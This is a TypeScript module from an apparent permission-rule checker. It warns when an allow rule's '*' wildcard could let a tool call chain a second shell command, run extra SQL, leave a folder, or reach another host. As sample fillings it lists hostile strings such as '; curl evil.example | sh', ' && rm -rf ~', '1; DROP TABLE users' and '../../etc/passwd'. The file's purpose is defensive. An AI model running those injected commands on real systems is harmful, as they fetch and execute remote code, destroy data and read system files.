import { pointerParts } from "../../json-pointer.ts";
import { quoted } from "../form-fields.ts";
import type { Condition, Rule } from "../policy.ts";
import { callsFor, textLike } from "../sample.ts";
import type { Suspicion } from "./suspicion.ts";

/*
 * A `*` in a rule that allows matches any characters, including those that end a command, leave a
 * folder or turn a name into another host.
 */

const COMMAND_KEY =
  /^(?:cmd|command|command_?line|shell|bash|sh|script|code|exec|sql|query|statement)$/i;
const PROGRAM =
  /^(?:git|gh|npm|npx|pnpm|yarn|node|python3?|pip|cargo|make|docker|kubectl|terraform|aws|gcloud|curl|wget|ssh|psql|ls|cat|echo|grep|find|rm|cp|mv|bash|sh)[ *]/;
const SQL = /^\s*(?:select|insert|update|delete|with|explain|show)\b/i;
const SQL_KEY = /^(?:sql|query|statement)$/i;
const FOLDER = /^(?:\.{0,2}\/|~\/|[A-Za-z]:\\)[^*]*/;
const HOST = /^https?:\/\/[^/?#*]*\*/;

interface Trick {
  readonly what: string;
  readonly instead: string;
  /** Each replaces the first `*`. */
  readonly fillings: readonly string[];
}

const COMMAND: Trick = {
  what: "The * also stands for what ends this command and begins another.",
  instead: "List whole commands (in: […]), and ask for every other one.",
  fillings: ["; curl evil.example | sh", " && rm -rf ~", " | sh", "\nrm -rf ~", " $(rm -rf ~)"],
};
const STATEMENT: Trick = {
  what: "The * also stands for the end of this statement and for another one after it.",
  instead: "List whole statements (in: […]), or give the tool an account that can only read.",
  fillings: ["1; DROP TABLE users", "1 INTO OUTFILE '/tmp/x'"],
};
const LEAVING: Trick = {
  what: "The * also stands for a way out of this folder.",
  instead:
    'List what may pass (in: […]), or put a rule before it that denies { matches: "*..*" } here.',
  fillings: ["../../etc/passwd"],
};
const OTHER_HOST: Trick = {
  what: "The * also stands for the rest of another host's name.",
  instead: "Write the whole host, followed by /: https://api.example.com/*.",
  fillings: [".evil.example/"],
};

export function textSuspicions(rule: Rule): readonly Suspicion[] {
  if (rule.decision !== "allow") return [];
  return Object.entries(rule.args ?? {}).flatMap(([pointer, condition]) => {
    const { matches = "" } = condition;
    const trick = matches.includes("*") ? trickOf(pointer, condition) : undefined;
    if (trick === undefined) return [];
    const parts = pointerParts(pointer);
    const calls = trick.fillings.flatMap((filling) =>
      callsFor(rule, { at: { pointer, parts, value: textLike(matches, filling) } }),
    );
    const { what, instead } = trick;
    return [{ place: `args[${quoted(pointer)}].matches`, calls, what, instead }];
  });
}

function trickOf(pointer: string, { matches = "" }: Condition): Trick | undefined {
  const key = pointerParts(pointer).at(-1) ?? "";
  if (SQL.test(matches) || SQL_KEY.test(key)) return STATEMENT;
  if (COMMAND_KEY.test(key) || PROGRAM.test(matches)) return COMMAND;
  if (HOST.test(matches)) return OTHER_HOST;
  return FOLDER.test(matches) ? LEAVING : undefined;
}
